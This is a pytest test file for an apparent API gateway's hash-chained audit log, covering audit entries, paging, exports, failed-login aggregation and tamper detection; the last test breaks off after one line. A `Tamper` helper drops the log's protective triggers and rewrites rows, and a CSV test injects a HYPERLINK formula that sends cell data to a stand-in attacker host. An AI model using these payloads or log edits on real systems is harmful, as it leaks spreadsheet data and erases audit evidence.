"""The tamper-evident audit trail, end to end on the real binary.

- Every change writes exactly one entry in its own transaction, with the actor, target,
  client address and (for updates) before/after; reads and refused requests write `api.access`.
- Failed authentication is aggregated per org/IP/reason/minute and written when the minute is
  over or at shutdown; use of a revoked key is attributed to that key.
- `GET /api/audit` filters and cursor paging, `GET /api/export` (JSON Lines and CSV).
- Tampering with `audit_log` directly in the SQLite file (triggers dropped first) is found by
  `gatehouse audit verify` and `GET /api/audit/verify`, with the first bad sequence and a kind.
- SIGKILL during a burst of writes loses no audit entry of an acknowledged change.
- No secret ever appears in an audit entry or an export.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json as jsonlib
import os
import pwd
import re
import secrets
import shutil
import signal
import sqlite3
import threading
import time
import urllib.parse
from datetime import datetime, timezone
from pathlib import Path

import pytest
import requests

import ghtest
from ghtest import REGISTRY, canary_forms, free_port, parse_time

VERIFY_LINE_RE = re.compile(r"sequence (\d+) \(([a-z_]+)\)")


# --------------------------------------------------------------------------------------------
# Helpers
# --------------------------------------------------------------------------------------------


def audit_page(inst, key=ghtest._OWNER, **params) -> dict:
    path = "/api/audit" + ("?" + urllib.parse.urlencode(params) if params else "")
    r = inst.api("GET", path, key=key, timeout=15.0)
    assert r.status_code == 200, f"GET {path}: {r.status_code} {r.text[:300]}"
    body = r.json()
    assert set(body) >= {"data", "next_cursor"}, body
    return body


def audit_all(inst, limit: int = 1000, **filters) -> list[dict]:
    """Every entry matching `filters`, walking the cursor (newest first)."""
    out: list[dict] = []
    cursor = None
    for _ in range(1000):
        params = dict(filters, limit=limit)
        if cursor is not None:
            params["cursor"] = cursor
        body = audit_page(inst, **params)
        out.extend(body["data"])
        cursor = body["next_cursor"]
        if cursor is None:
            return out
    raise AssertionError("cursor paging did not end")


def one(inst, **filters) -> dict:
    entries = audit_all(inst, **filters)
    assert len(entries) == 1, f"expected exactly one audit entry for {filters}, got {len(entries)}: " + \
        ghtest.redact(jsonlib.dumps(entries)[:1500])
    return entries[0]


def check_entry(e: dict, *, action: str, actor_kind: str, actor_id: str, target: str, outcome: str = "success",
                client_ip: str = "127.0.0.1", actor_name: str | None = None) -> dict:
    assert set(e) >= {"sequence", "time", "actor_kind", "actor_id", "client_ip", "action", "target", "outcome",
                      "details", "prev_hash", "hash"}, sorted(e)
    assert e["action"] == action, e
    assert e["actor_kind"] == actor_kind, e
    assert e["actor_id"] == actor_id, e
    assert e["target"] == target, e
    assert e["outcome"] == outcome, e
    assert e["client_ip"] == client_ip, e
    assert isinstance(e["sequence"], int) and e["sequence"] >= 1, e
    assert re.fullmatch(r"[0-9a-f]{64}", e["hash"]) and re.fullmatch(r"[0-9a-f]{64}", e["prev_hash"]), e
    t = parse_time(e["time"])
    assert abs((datetime.now(timezone.utc) - t).total_seconds()) < 600, e["time"]
    assert isinstance(e["details"], dict), e
    if actor_name is not None:
        assert e["details"].get("actor_name") == actor_name, \
            f"{action}: details.actor_name should be {actor_name!r}: {e['details']}"
    assert_no_secrets(jsonlib.dumps(e).encode(), f"audit entry {action}")
    return e


def assert_no_secrets(data: bytes, where: str) -> None:
    """No provider key, Gatehouse key, password or master key, in any encoding the scan knows."""
    for c in REGISTRY.canaries.values():
        for name, form in canary_forms(c.value):
            assert form not in data, f"{where} contains {c.label} [{c.preview}] as {name}"


def new_password(label: str) -> str:
    pw = "pw-" + secrets.token_urlsafe(18)
    REGISTRY.add_canary(pw, "password", label)
    return pw


def owner_key_id(inst) -> str:
    r = inst.api("GET", "/api/api-keys")
    assert r.status_code == 200, r.text
    owners = [k for k in r.json()["data"] if k["name"] == "owner"]
    assert len(owners) == 1, r.json()
    return owners[0]["id"]


def bearer(key: str) -> dict:
    return {"Authorization": f"Bearer {key}"}


def raw(inst, method: str, path: str, *, session: requests.Session | None = None, **kw) -> requests.Response:
    s = session or inst._session
    kw.setdefault("timeout", 10.0)
    return s.request(method, inst.base_url + path, verify=inst.verify, **kw)


def garbage_key(kind: str = "api") -> str:
    """Well-formed but unknown Gatehouse key (valid checksum)."""
    body = f"gate_{kind}_" + "".join(secrets.choice(ghtest.BASE62) for _ in range(44))
    return body + ghtest.base62_checksum(body)


def db_path(inst) -> Path:
    return inst.data_dir / "gatehouse.sqlite"


def db_rows(inst, sql: str, args=()) -> list[sqlite3.Row]:
    """Read-only look at the database (safe while the server runs: WAL)."""
    con = sqlite3.connect(db_path(inst), timeout=10)
    con.row_factory = sqlite3.Row
    try:
        return con.execute(sql, args).fetchall()
    finally:
        con.close()


def canonical(row) -> bytes:
    """The documented canonical encoding: 4-byte big-endian length + UTF-8 bytes per field."""
    fields = ["v1", str(row["seq"]), str(row["time_ms"]), row["org_id"], row["actor_kind"], row["actor_id"],
              row["client_ip"], row["action"], row["target"], row["outcome"], row["details"]]
    out = b""
    for f in fields:
        b = f.encode()
        out += len(b).to_bytes(4, "big") + b
    return out


def chain_hash(prev: bytes, row) -> bytes:
    return hashlib.sha256(bytes(prev) + canonical(row)).digest()


def verify_cli(inst, *extra) -> tuple[int, str, str, dict | None]:
    """`gatehouse audit verify [extra]` → (rc, stdout, stderr, parsed --json output or None)."""
    r = inst.cli("audit", "verify", *extra)
    parsed = None
    if "--json" in extra:
        lines = ghtest.nonempty_lines(r.stdout)
        assert len(lines) == 1, f"--json should print one line: {r.stdout!r}"
        parsed = jsonlib.loads(lines[0])
    return r.rc, r.stdout, r.stderr, parsed


def assert_verify_broken(inst, seq: int, damage: str, *extra) -> None:
    rc, out, err, _ = verify_cli(inst, *extra)
    assert rc == 2, f"audit verify {extra} should exit 2 (broken), got {rc}: {out!r} {err!r}"
    line = ghtest.assert_one_error_line(err)
    m = VERIFY_LINE_RE.search(line)
    assert m, f"stderr should name the sequence and the damage: {line!r}"
    assert (int(m.group(1)), m.group(2)) == (seq, damage), \
        f"expected sequence {seq} ({damage}), verify said: {line!r}"
    rc, out, err, parsed = verify_cli(inst, "--json", *extra)
    assert rc == 2, (rc, out, err)
    assert parsed["intact"] is False and parsed["first_broken_sequence"] == seq and parsed["damage"] == damage, parsed


def assert_verify_intact(inst, *extra) -> dict:
    rc, out, err, parsed = verify_cli(inst, "--json", *extra)
    assert rc == 0, f"audit verify {extra} should exit 0, got {rc}: {out!r} {err!r}"
    assert parsed["intact"] is True and parsed["first_broken_sequence"] is None and parsed["damage"] is None, parsed
    rc, out, err, _ = verify_cli(inst, *extra)
    assert rc == 0 and err.strip() == "", (rc, out, err)
    return parsed


class Tamper:
    """Direct writes to `audit_log`, as an attacker with write access to the file would do."""

    def __init__(self, inst):
        self.con = sqlite3.connect(db_path(inst), timeout=10, isolation_level=None)
        self.con.row_factory = sqlite3.Row
        self.con.execute("DROP TRIGGER IF EXISTS audit_log_no_update")
        self.con.execute("DROP TRIGGER IF EXISTS audit_log_no_delete")

    def __enter__(self):
        self.con.execute("BEGIN IMMEDIATE")
        return self

    def __exit__(self, exc_type, *_):
        self.con.execute("COMMIT" if exc_type is None else "ROLLBACK")
        self.con.close()

    def row(self, seq: int) -> sqlite3.Row:
        r = self.con.execute("SELECT * FROM audit_log WHERE seq = ?", (seq,)).fetchone()
        assert r is not None, f"no audit row {seq}"
        return r

    def shift(self, from_seq: int, by: int) -> None:
        """Renumbers every row with seq >= from_seq (two steps, to stay clear of the primary key)."""
        self.con.execute("UPDATE audit_log SET seq = -seq WHERE seq >= ?", (from_seq,))
        self.con.execute("UPDATE audit_log SET seq = -seq + ? WHERE seq < 0", (by,))


COLUMNS = ["seq", "time_ms", "org_id", "actor_kind", "actor_id", "client_ip", "action", "target", "outcome", "details",
           "prev_hash", "hash"]


# --------------------------------------------------------------------------------------------
# One shared server: actions, filters, paging, export
# --------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def owner_id(inst):
    return owner_key_id(inst)


@pytest.fixture(scope="module")
def early_failures(inst):
    """Failed authentications fired at the start of the module, checked at its end (minute over)."""
    counts = {"api": 6, "gateway": 4}
    # A revoked proxy key, used on /v1.
    pk, _ = inst.create_provider_key(name="early-pk", base_url=f"http://127.0.0.1:{free_port()}",
                                     provider="openai")
    px = inst.create_proxy_key(pk["id"], name="early-revoked")
    r = inst.api("POST", f"/api/proxy-keys/{px['id']}/revoke")
    assert r.status_code == 200, r.text
    started = time.time()
    with requests.Session() as s:
        for _ in range(counts["api"]):
            assert raw(inst, "GET", "/api/proxy-keys", session=s, headers=bearer(garbage_key())).status_code == 401
        for _ in range(counts["gateway"]):
            r = raw(inst, "POST", "/v1/chat/completions", session=s, headers=bearer(garbage_key("proxy")),
                    json={"model": "gpt-4o-mini", "messages": []})
            assert r.status_code == 401
        for _ in range(3):
            r = raw(inst, "POST", "/v1/chat/completions", session=s, headers=bearer(px["key"]),
                    json={"model": "gpt-4o-mini", "messages": []})
            assert r.status_code == 401
    return {"started": started, "counts": counts, "revoked_id": px["id"], "revoked_uses": 3}


def test_provider_key_create_and_delete_are_audited(inst, owner_id, early_failures):
    pk, secret = inst.create_provider_key(name="audited-openai")
    e = check_entry(one(inst, action="provider_key.create", target=pk["id"]), action="provider_key.create",
                    actor_kind="api_key", actor_id=owner_id, target=pk["id"], actor_name="owner")
    d = e["details"]
    assert d.get("name") == "audited-openai" and d.get("provider") == "openai", d
    assert d.get("last4") == secret[-4:], d
    # The secret is represented by a keyed fingerprint only.
    assert isinstance(d.get("secret"), str) and secret not in d["secret"] and secret[-12:] not in jsonlib.dumps(d), d
    r = inst.api("DELETE", f"/api/provider-keys/{pk['id']}")
    assert r.status_code == 204, r.text
    e = check_entry(one(inst, action="provider_key.delete", target=pk["id"]), action="provider_key.delete",
                    actor_kind="api_key", actor_id=owner_id, target=pk["id"], actor_name="owner")
    assert e["details"].get("name") == "audited-openai", e
    # Successful changes do not also write an api.access entry.
    writes = [x for x in audit_all(inst, action="api.access", actor=owner_id) if x["details"].get("method") != "GET"]
    assert writes == [], writes


def test_proxy_key_create_update_revoke_are_audited(inst, owner_id):
    pk, _ = inst.create_provider_key(name="for-proxy")
    px = inst.create_proxy_key(pk["id"], name="px-before", allowed_models=["gpt-4o-mini"])
    e = check_entry(one(inst, action="proxy_key.create", target=px["id"]), action="proxy_key.create",
                    actor_kind="api_key", actor_id=owner_id, target=px["id"], actor_name="owner")
    assert e["details"].get("name") == "px-before" and e["details"].get("provider_key_id") == pk["id"], e

    r = inst.api("PATCH", f"/api/proxy-keys/{px['id']}", json={"name": "px-after", "allowed_models": ["gpt-4o"]})
    assert r.status_code == 200, r.text
    e = check_entry(one(inst, action="proxy_key.update", target=px["id"]), action="proxy_key.update",
                    actor_kind="api_key", actor_id=owner_id, target=px["id"], actor_name="owner")
    before, after = e["details"].get("before"), e["details"].get("after")
    assert isinstance(before, dict) and isinstance(after, dict), e["details"]
    assert before.get("name") == "px-before" and after.get("name") == "px-after", e["details"]
    assert before.get("allowed_models") == ["gpt-4o-mini"] and after.get("allowed_models") == ["gpt-4o"], e["details"]

    r = inst.api("POST", f"/api/proxy-keys/{px['id']}/revoke")
    assert r.status_code == 200, r.text
    check_entry(one(inst, action="proxy_key.revoke", target=px["id"]), action="proxy_key.revoke",
                actor_kind="api_key", actor_id=owner_id, target=px["id"], actor_name="owner")
    # A refused change (already revoked: 409) writes no second revoke entry, but an api.access.
    r = inst.api("POST", f"/api/proxy-keys/{px['id']}/revoke")
    assert r.status_code == 409, r.text
    one(inst, action="proxy_key.revoke", target=px["id"])
    e = one(inst, action="api.access", target=f"/api/proxy-keys/{px['id']}/revoke")
    assert e["outcome"] == "failed" and e["details"].get("status") == 409, e


def test_org_keys_create_and_revoke_are_audited(inst, owner_id):
    api = inst.create_org_key("api", name="automation-a")
    check_entry(one(inst, action="api_key.create", target=api["id"]), action="api_key.create", actor_kind="api_key",
                actor_id=owner_id, target=api["id"], actor_name="owner")
    read = inst.create_org_key("read", name="dashboards")
    check_entry(one(inst, action="read_key.create", target=read["id"]), action="read_key.create",
                actor_kind="api_key", actor_id=owner_id, target=read["id"], actor_name="owner")
    # Revoked by the new key itself: the actor is that key.
    r = inst.api("POST", f"/api/api-keys/{read['id']}/revoke", key=api["key"])
    assert r.status_code == 200, r.text
    check_entry(one(inst, action="read_key.revoke", target=read["id"]), action="read_key.revoke",
                actor_kind="api_key", actor_id=api["id"], target=read["id"], actor_name="automation-a")
    r = inst.api("POST", f"/api/api-keys/{api['id']}/revoke")
    assert r.status_code == 200, r.text
    check_entry(one(inst, action="api_key.revoke", target=api["id"]), action="api_key.revoke",
                actor_kind="api_key", actor_id=owner_id, target=api["id"], actor_name="owner")


def test_settings_update_is_audited_with_before_and_after(inst, owner_id):
    r = inst.api("GET", "/api/settings")
    assert r.status_code == 200
    old_days = r.json()["retention_days"]
    new_days = 31 if old_days != 31 else 32
    r = inst.api("PATCH", "/api/settings", json={"retention_days": new_days})
    assert r.status_code == 200, r.text
    entries = audit_all(inst, action="settings.update")
    assert len(entries) == 1, entries
    e = check_entry(entries[0], action="settings.update", actor_kind="api_key", actor_id=owner_id,
                    target=entries[0]["target"], actor_name="owner")
    assert e["target"].startswith("org_"), e
    assert e["details"]["before"]["retention_days"] == old_days, e["details"]
    assert e["details"]["after"]["retention_days"] == new_days, e["details"]


def test_users_sessions_and_logins_are_audited(inst, owner_id):
    pw = new_password("member password")
    email = f"member-{secrets.token_hex(4)}@example.com"
    r = inst.api("POST", "/api/users", json={"email": email, "role": "member", "password": pw})
    assert r.status_code == 201, r.text
    uid = r.json()["id"]
    e = check_entry(one(inst, action="user.create", target=uid), action="user.create", actor_kind="api_key",
                    actor_id=owner_id, target=uid, actor_name="owner")
    assert e["details"].get("email") == email and e["details"].get("role") == "member", e["details"]

    r = inst.api("PATCH", f"/api/users/{uid}", json={"role": "admin"})
    assert r.status_code == 200, r.text
    e = check_entry(one(inst, action="user.role_change", target=uid), action="user.role_change",
                    actor_kind="api_key", actor_id=owner_id, target=uid, actor_name="owner")
    assert e["details"]["before"] == {"role": "member"} and e["details"]["after"] == {"role": "admin"}, e["details"]

    # Two wrong passwords: two denied logins (not aggregated), and no password in them.
    wrong = new_password("wrong password")
    for _ in range(2):
        r = raw(inst, "POST", "/api/sessions", json={"email": email, "password": wrong})
        assert r.status_code == 401, r.text
    denied = audit_all(inst, action="session.login", target=uid, outcome="denied")
    assert len(denied) == 2, denied
    for e in denied:
        check_entry(e, action="session.login", actor_kind="user", actor_id=uid, target=uid, outcome="denied")
        assert e["details"].get("reason") == "wrong_password", e
    # An unknown e-mail address belongs to no organization: recorded outside every org's view.
    r = raw(inst, "POST", "/api/sessions", json={"email": f"nobody-{secrets.token_hex(4)}@example.com", "password": wrong})
    assert r.status_code == 401, r.text
    rows = db_rows(inst, "SELECT * FROM audit_log WHERE action = 'session.login' AND outcome = 'denied' AND org_id = ''")
    assert len(rows) == 1, [dict(x) for x in rows]
    assert rows[0]["client_ip"] == "127.0.0.1" and jsonlib.loads(rows[0]["details"]).get("reason") == "unknown_email"

    with requests.Session() as s:
        r = raw(inst, "POST", "/api/sessions", session=s, json={"email": email, "password": pw})
        assert r.status_code == 201, r.text
        token = s.cookies.get("gatehouse_session")
        assert token
        REGISTRY.add_canary(token, "gatehouse", "session token")
        ok = one(inst, action="session.login", target=uid, outcome="success")
        # A read with the session: api.access by the user.
        r = raw(inst, "GET", "/api/users", session=s)
        assert r.status_code == 200, r.text
        acc = one(inst, action="api.access", actor=uid, target="/api/users")
        check_entry(acc, action="api.access", actor_kind="user", actor_id=uid, target="/api/users", actor_name=email)
        r = raw(inst, "DELETE", "/api/sessions", session=s, headers={"Origin": inst.base_url})
        assert r.status_code == 204, r.text
    check_entry(one(inst, action="session.logout", target=uid), action="session.logout", actor_kind="user",
                actor_id=uid, target=uid, actor_name=email)

    r = inst.api("DELETE", f"/api/users/{uid}")
    assert r.status_code == 204, r.text
    check_entry(one(inst, action="user.delete", target=uid), action="user.delete", actor_kind="api_key",
                actor_id=owner_id, target=uid, actor_name="owner")
    # Last: the successful login entry names its actor like every other entry.
    check_entry(ok, action="session.login", actor_kind="user", actor_id=uid, target=uid, actor_name=email)


def test_reads_write_api_access(inst):
    k = inst.create_org_key("api", name="reader-of-things")
    with requests.Session() as s:
        for path in ("/api/proxy-keys", "/api/settings", "/api/usage"):
            r = raw(inst, "GET", path, session=s, headers=bearer(k["key"]))
            assert r.status_code == 200, (path, r.text)
    entries = audit_all(inst, actor=k["id"])
    assert sorted(e["target"] for e in entries) == ["/api/proxy-keys", "/api/settings", "/api/usage"], entries
    for e in entries:
        check_entry(e, action="api.access", actor_kind="api_key", actor_id=k["id"], target=e["target"],
                    actor_name="reader-of-things")
        assert e["details"].get("method") == "GET" and e["details"].get("status") == 200, e


def test_query_string_and_key_shaped_path_segments_are_not_recorded(inst):
    k = inst.create_org_key("api", name="path-prober")
    r = raw(inst, "GET", f"/api/proxy-keys/{k['key']}?token={k['key']}", headers=bearer(k["key"]))
    assert r.status_code == 404, r.text
    entries = audit_all(inst, actor=k["id"])
    assert len(entries) == 1, entries
    e = entries[0]
    assert e["target"] == "/api/proxy-keys/(redacted)" and e["outcome"] == "failed", e
    assert_no_secrets(jsonlib.dumps(e).encode(), "api.access of a key-shaped path")


def test_forbidden_request_writes_denied_api_access(inst):
    read = inst.create_org_key("read", name="read-only-prober")
    r = raw(inst, "POST", "/api/proxy-keys", headers=bearer(read["key"]), json={"name": "x", "provider_key_id": "pk_x"})
    assert r.status_code == 403, r.text
    r = raw(inst, "GET", "/api/export?what=audit", headers=bearer(read["key"]))
    assert r.status_code == 403, r.text
    denied = audit_all(inst, actor=read["id"], outcome="denied")
    assert sorted((e["details"].get("method"), e["target"]) for e in denied) == \
        [("GET", "/api/export"), ("POST", "/api/proxy-keys")], denied
    for e in denied:
        check_entry(e, action="api.access", actor_kind="read_key", actor_id=read["id"], target=e["target"],
                    outcome="denied", actor_name="read-only-prober")
        assert e["details"].get("status") == 403 and e["details"].get("reason"), e
    # Nothing was created, and no data.export was recorded for the refused export.
    assert audit_all(inst, actor=read["id"], action="data.export") == []
    assert audit_all(inst, actor=read["id"], outcome="success") == []


def test_proxy_key_on_api_is_denied_and_audited(inst):
    pk, _ = inst.create_provider_key(name="px-on-api")
    px = inst.create_proxy_key(pk["id"], name="wrong-plane")
    r = raw(inst, "GET", "/api/proxy-keys", headers=bearer(px["key"]))
    assert r.status_code == 403, r.text
    e = one(inst, actor=px["id"])
    assert e["action"] == "api.access" and e["outcome"] == "denied" and e["details"].get("status") == 403, e


def test_export_streams_every_entry_and_is_audited(inst, owner_id):
    # Enough entries for several export pages (500 per page).
    def reads(n):
        with requests.Session() as s:
            for _ in range(n):
                assert raw(inst, "GET", "/api/settings", session=s, headers=bearer(inst.owner_key)).status_code == 200
    threads = [threading.Thread(target=reads, args=(160,)) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()

    before = {e["sequence"]: e for e in audit_all(inst)}
    assert len(before) > 600
    r = raw(inst, "GET", "/api/export?what=audit&format=jsonl", headers=bearer(inst.owner_key), timeout=30)
    assert r.status_code == 200, r.text[:300]
    assert r.headers["Content-Type"].startswith("application/x-ndjson"), r.headers
    assert r.headers.get("Content-Disposition") == 'attachment; filename="gatehouse-audit.jsonl"', r.headers
    assert r.content.endswith(b"\n")
    assert_no_secrets(r.content, "audit JSONL export")
    lines = r.content.decode().split("\n")[:-1]
    exported = [jsonlib.loads(line) for line in lines]
    seqs = [e["sequence"] for e in exported]
    assert seqs == sorted(seqs, reverse=True) and len(set(seqs)) == len(seqs), "export: newest first, no repeats"
    # Every entry that existed before is in the export, identical to the API's view.
    missing = sorted(set(before) - set(seqs))
    assert not missing, f"export lacks {len(missing)} entries, e.g. {missing[:10]}"
    by_seq_json = {e["sequence"]: e for e in exported}
    for s in before:
        assert by_seq_json[s] == before[s], f"export differs from GET /api/audit at {s}"
    # The export itself was recorded before any data left: it is in its own output.
    exports = audit_all(inst, action="data.export", actor=owner_id)
    assert len(exports) == 1, exports
    e = check_entry(exports[0], action="data.export", actor_kind="api_key", actor_id=owner_id, target="audit",
                    actor_name="owner")
    assert e["details"].get("format") == "jsonl", e
    assert e["sequence"] in seqs, "the data.export entry precedes the data"
    # After the export: everything up to its newest entry was exported (no gaps).
    after = audit_all(inst)
    assert {x["sequence"] for x in after if x["sequence"] <= seqs[0]} == set(seqs)

    # CSV: same entries, the documented columns, RFC 4180.
    r = raw(inst, "GET", "/api/export?what=audit&format=csv", headers=bearer(inst.owner_key), timeout=30)
    assert r.status_code == 200, r.text[:300]
    assert r.headers["Content-Type"].startswith("text/csv"), r.headers
    assert_no_secrets(r.content, "audit CSV export")
    rows = list(csv.reader(io.StringIO(r.content.decode(), newline="")))
    assert rows[0] == ["sequence", "time", "actor_kind", "actor_id", "client_ip", "action", "target", "outcome",
                       "details", "prev_hash", "hash"], rows[0]
    body = rows[1:]
    csv_seqs = [int(row[0]) for row in body]
    assert csv_seqs == sorted(csv_seqs, reverse=True)
    assert set(seqs) <= set(csv_seqs), "CSV export lacks entries the JSONL export had"
    by_seq = {int(row[0]): row for row in body}
    for s in seqs:
        row, j = by_seq[s], by_seq_json[s]
        assert row[5] == j["action"] and row[6] == j["target"] and row[10] == j["hash"], (row, j)
        assert jsonlib.loads(row[8]) == j["details"], (row, j)
    csv_exports = audit_all(inst, action="data.export", actor=owner_id)
    assert len(csv_exports) == 2 and csv_exports[0]["details"].get("format") == "csv", csv_exports


def test_requests_csv_export_neutralises_formula_cells(inst):
    dead = f"http://127.0.0.1:{free_port()}"
    pk, _ = inst.create_provider_key(name="dead-upstream", provider="openai", base_url=dead)
    px = inst.create_proxy_key(pk["id"], name="formula-proxy")
    cells = {"model": "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")", "user": "@SUM(1+1)*cmd"}
    r = raw(inst, "POST", "/v1/chat/completions", headers={**bearer(px["key"]), "Helicone-User-Id": cells["user"]},
            json={"model": cells["model"], "messages": [{"role": "user", "content": "hi"}]})
    assert r.status_code in (502, 504), r.text
    assert ghtest.poll_until(lambda: inst.api("GET", f"/api/requests?proxy_key_id={px['id']}").json()["data"], 10), \
        "request log row never appeared"
    r = raw(inst, "GET", "/api/export?what=requests&format=csv", headers=bearer(inst.owner_key), timeout=30)
    assert r.status_code == 200, r.text[:300]
    rows = list(csv.DictReader(io.StringIO(r.content.decode(), newline="")))
    mine = [row for row in rows if row["proxy_key_id"] == px["id"]]
    assert len(mine) == 1, rows
    assert mine[0]["model"] == "'" + cells["model"], mine[0]
    assert mine[0]["user_id"] == "'" + cells["user"], mine[0]
    for row in rows:
        for k, v in row.items():
            assert not (v and v[0] in "=+-@"), f"formula-leading cell {k}={v!r}"
    e = one(inst, action="data.export", target="requests")
    assert e["details"].get("format") == "csv", e


def test_cursor_paging_walks_every_entry_once(inst):
    full = audit_page(inst, limit=1000)
    assert full["next_cursor"] is None or len(full["data"]) == 1000
    everything = audit_all(inst, limit=1000)
    expected = [e["sequence"] for e in everything]
    walked: list[int] = []
    cursor = None
    pages = 0
    while True:
        params = {"limit": 97}
        if cursor is not None:
            params["cursor"] = cursor
        body = audit_page(inst, **params)
        pages += 1
        walked.extend(e["sequence"] for e in body["data"])
        if body["next_cursor"] is None:
            break
        assert body["next_cursor"] == str(body["data"][-1]["sequence"]) or \
            body["next_cursor"] == body["data"][-1]["sequence"], body["next_cursor"]
        cursor = body["next_cursor"]
        assert pages < 200
    assert pages > 3
    assert len(walked) == len(set(walked)), "an entry was returned twice"
    assert walked == sorted(walked, reverse=True)
    # Entries added while walking (api.access of these very reads) are newer than the start.
    assert [s for s in walked if s <= expected[0]] == expected, "paging skipped or repeated entries"
    # Bad cursors are refused.
    for bad in ("0", "-5", "abc", "1.5"):
        r = inst.api("GET", f"/api/audit?cursor={bad}")
        assert r.status_code == 422, (bad, r.status_code, r.text)


def test_filters_combine(inst, owner_id):
    everything = audit_all(inst)
    assert len(everything) > 50
    read = inst.create_org_key("read", name="filter-reader")
    with requests.Session() as s:
        for path in ("/api/audit", "/api/proxy-keys", "/api/audit/verify"):
            raw(inst, "GET", path, session=s, headers=bearer(read["key"]))
    everything = audit_all(inst)

    def expect(**f):
        got = audit_all(inst, **f)
        want = [e for e in everything if all(
            (k == "action" and e["action"] == v) or (k == "actor" and e["actor_id"] == v)
            or (k == "actor_kind" and e["actor_kind"] == v) or (k == "target" and e["target"] == v)
            or (k == "outcome" and e["outcome"] == v)
            or (k == "since" and parse_time(e["time"]) >= parse_time(v))
            or (k == "until" and parse_time(e["time"]) < parse_time(v))
            for k, v in f.items())]
        # Entries written after `everything` (the api.access of these queries) are newer.
        top = everything[0]["sequence"]
        assert [e["sequence"] for e in got if e["sequence"] <= top] == [e["sequence"] for e in want], f
        return want

    assert len(expect(action="api.access", actor=read["id"])) == 3
    assert len(expect(action="api.access", actor=read["id"], outcome="denied")) == 1  # /api/proxy-keys: 403
    assert len(expect(action="api.access", actor=read["id"], target="/api/audit/verify", outcome="success")) == 1
    assert expect(action="api.access", actor=read["id"], outcome="failed") == []
    assert len(expect(actor_kind="read_key", actor=read["id"])) == 3
    assert expect(actor_kind="api_key", actor=read["id"]) == []
    assert len(expect(action="read_key.create", actor_kind="api_key", actor=owner_id, target=read["id"])) == 1
    mid = everything[len(everything) // 2]
    later = everything[len(everything) // 4]
    assert expect(since=mid["time"], until=later["time"], actor_kind="api_key")
    assert expect(since=mid["time"], action="api.access", outcome="success")
    assert expect(until=mid["time"], action="proxy_key.create")
    # Unknown values are 422, unknown parameters refused.
    assert inst.api("GET", "/api/audit?outcome=ok").status_code == 422
    assert inst.api("GET", "/api/audit?since=yesterday").status_code == 422
    assert inst.api("GET", "/api/audit?limit=0").status_code == 422
    assert inst.api("GET", "/api/audit?limit=1001").status_code == 422
    assert inst.api("GET", "/api/audit?actor_name=owner").status_code in (400, 422)


def test_audit_entries_chain_as_documented(inst):
    """The stored rows chain with SHA-256(prev_hash ‖ canonical encoding), from genesis."""
    rows = db_rows(inst, f"SELECT {', '.join(COLUMNS)} FROM audit_log ORDER BY seq")
    assert rows and rows[0]["seq"] == 1
    prev = b"\0" * 32
    for i, row in enumerate(rows):
        assert row["seq"] == i + 1, "sequence numbers from 1 without gaps"
        assert bytes(row["prev_hash"]) == prev, f"prev_hash of {row['seq']}"
        assert bytes(row["hash"]) == chain_hash(prev, row), f"hash of {row['seq']} is not the documented one"
        prev = bytes(row["hash"])
    assert_verify_intact(inst)


# --------------------------------------------------------------------------------------------
# Aggregated authentication failures, flushed at shutdown; the CLI's master key rotation
# --------------------------------------------------------------------------------------------


def test_auth_failures_flush_at_shutdown_and_cli_rotation_is_audited(gatehouse):
    g = gatehouse()
    pk, _ = g.create_provider_key(name="pk", provider="openai", base_url=f"http://127.0.0.1:{free_port()}")
    px = g.create_proxy_key(pk["id"], name="soon-revoked")
    spare = g.create_org_key("api", name="spare")
    assert g.api("POST", f"/api/proxy-keys/{px['id']}/revoke").status_code == 200
    assert g.api("POST", f"/api/api-keys/{spare['id']}/revoke").status_code == 200
    # Keep clear of a minute boundary so each kind lands in one bucket.
    if datetime.now().second >= 55:
        time.sleep(61 - datetime.now().second)
    n_api, n_gw, n_revoked_px, n_revoked_api = 7, 5, 4, 2
    with requests.Session() as s:
        for i in range(n_api):
            # Unknown well-formed keys, malformed tokens, no credential at all.
            h = bearer(garbage_key()) if i % 3 == 0 else bearer("gate_api_nonsense" + str(i)) if i % 3 == 1 else {}
            assert raw(g, "GET", "/api/settings", session=s, headers=h).status_code == 401
        for i in range(n_gw):
            h = bearer(garbage_key("proxy")) if i % 2 else {"x-api-key": "sk-not-a-gatehouse-key-" + str(i)}
            r = raw(g, "POST", "/v1/chat/completions", session=s, headers=h, json={"model": "m", "messages": []})
            assert r.status_code == 401
        for _ in range(n_revoked_px):
            r = raw(g, "POST", "/v1/chat/completions", session=s, headers=bearer(px["key"]), json={"model": "m", "messages": []})
            assert r.status_code == 401
        for _ in range(n_revoked_api):
            assert raw(g, "GET", "/api/settings", session=s, headers=bearer(spare["key"])).status_code == 401
    r = None
    # Nothing of these is written while the minute lasts.
    assert db_rows(g, "SELECT seq FROM audit_log WHERE action LIKE '%auth_failed' OR action LIKE '%_key_used'") == []
    assert g.stop() == 0

    def entries(action):
        return db_rows(g, "SELECT * FROM audit_log WHERE action = ?", (action,))
    for action, n, target in (("api.auth_failed", n_api, ""), ("gateway.auth_failed", n_gw, ""),
                              ("gateway.revoked_key_used", n_revoked_px, px["id"]),
                              ("api.revoked_key_used", n_revoked_api, spare["id"])):
        rows = entries(action)
        assert len(rows) == 1, f"{action}: expected one aggregated entry, got {len(rows)}"
        d = jsonlib.loads(rows[0]["details"])
        assert d["count"] == n, f"{action}: count {d['count']} != {n}"
        assert rows[0]["target"] == target and rows[0]["outcome"] == "denied", dict(rows[0])
        assert rows[0]["client_ip"] == "127.0.0.1", dict(rows[0])
        assert_no_secrets(rows[0]["details"].encode(), action)
    assert jsonlib.loads(entries("api.auth_failed")[0]["details"])["reasons"].get("missing") == 2

    # Master key rotation from the command line, server stopped.
    r = g.cli("vault", "rotate-master")
    assert r.rc == 0, r
    g.register_master_key_file()
    assert_verify_intact(g)
    g.start()
    os_user = pwd.getpwuid(os.geteuid()).pw_name
    e = one(g, action="vault.rotate_master")
    assert e["details"].get("from_version") == 1 and e["details"].get("to_version") == 2, e
    assert e["details"].get("data_keys_rewrapped") == 1, e
    used = one(g, action="gateway.revoked_key_used")
    check_entry(used, action="gateway.revoked_key_used", actor_kind="anonymous", actor_id="", target=px["id"],
                outcome="denied")
    check_entry(e, action="vault.rotate_master", actor_kind="cli", actor_id=os_user, target="master_key",
                client_ip="", actor_name=os_user)


def test_graceful_shutdown_logs_no_audit_error(gatehouse):
    """SIGTERM stops the periodic checkpointer; that is not an error worth an operator's attention."""
    g = gatehouse()
